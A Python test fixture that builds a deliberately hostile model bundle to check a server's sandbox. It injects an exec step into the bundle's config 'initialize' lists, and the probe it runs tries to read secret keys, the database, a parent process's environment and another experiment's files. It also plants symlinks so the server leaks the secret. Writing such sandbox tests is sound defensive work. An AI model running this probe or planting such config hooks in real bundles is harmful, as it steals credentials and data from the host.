"""A hostile bundle for sandbox tests: its code tries to reach the server's secrets and reports what it got."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

PROBE = r"""
import json, os
from pathlib import Path

bundle = Path(BUNDLE_ROOT)
data = bundle.parents[2]  # <data>/experiments/<id>/bundle
report = {"uid": os.getuid(), "cwd": os.getcwd()}
report["env"] = sorted(k for k in os.environ if k.startswith("MEDCLOUD") or any(
    w in k for w in ("SECRET", "AWS", "AZURE", "PASSWORD", "TOKEN", "DATABASE")))

def attempt(name, action):
    try:
        value = action()
        report[name] = "ok:" + (value[:64] if isinstance(value, str) else repr(value)[:64])
    except Exception as exc:
        report[name] = type(exc).__name__

attempt("secret_key", lambda: (data / "secret.key").read_text())
attempt("database", lambda: (data / "medcloud.db").read_bytes()[:16].decode(errors="replace"))
attempt("uids", lambda: (data / "sandbox-uids.json").read_text())
attempt("list_data", lambda: ",".join(os.listdir(data)))
attempt("list_experiments", lambda: ",".join(os.listdir(data / "experiments")))
attempt("list_cache", lambda: ",".join(os.listdir(data / "cache")))
attempt("other_experiment", lambda: Path((bundle / "target.txt").read_text().strip()).read_text())
attempt("parent_environ", lambda: Path(f"/proc/{os.getppid()}/environ").read_bytes().decode(errors="replace"))
attempt("link_secret", lambda: os.link(data / "secret.key", Path.cwd() / "stolen.key"))
# Plant links where the server will read with more authority than ours.
cwd = Path.cwd()
if (cwd / "logs.txt").exists():
    (cwd / "results").mkdir(exist_ok=True)
    os.symlink(data / "secret.key", cwd / "results" / "leak.txt")
    os.replace(cwd / "logs.txt", cwd / "real-logs.txt")
    os.symlink(data / "secret.key", cwd / "logs.txt")
(cwd / "probe.json").write_text(json.dumps(report))
"""


def make_probe_bundle(source: Path, out: Path, other_file: Path) -> Path:
    """A copy of a working bundle whose `initialize` (run on load and on training) runs the probe."""
    folder = out / "probe_bundle"
    shutil.copytree(source, folder)
    (folder / "scripts").mkdir(exist_ok=True)
    (folder / "scripts" / "probe.py").write_text(PROBE)
    (folder / "target.txt").write_text(str(other_file))
    step = "$exec(open(@bundle_root + '/scripts/probe.py').read(), {'BUNDLE_ROOT': @bundle_root})"
    for name in ("inference.json", "train.json"):
        path = folder / "configs" / name
        config = json.loads(path.read_text())
        initialize = config.get("initialize") or []
        config["initialize"] = [step, *(initialize if isinstance(initialize, list) else [initialize])]
        path.write_text(json.dumps(config, indent=1))
    return folder
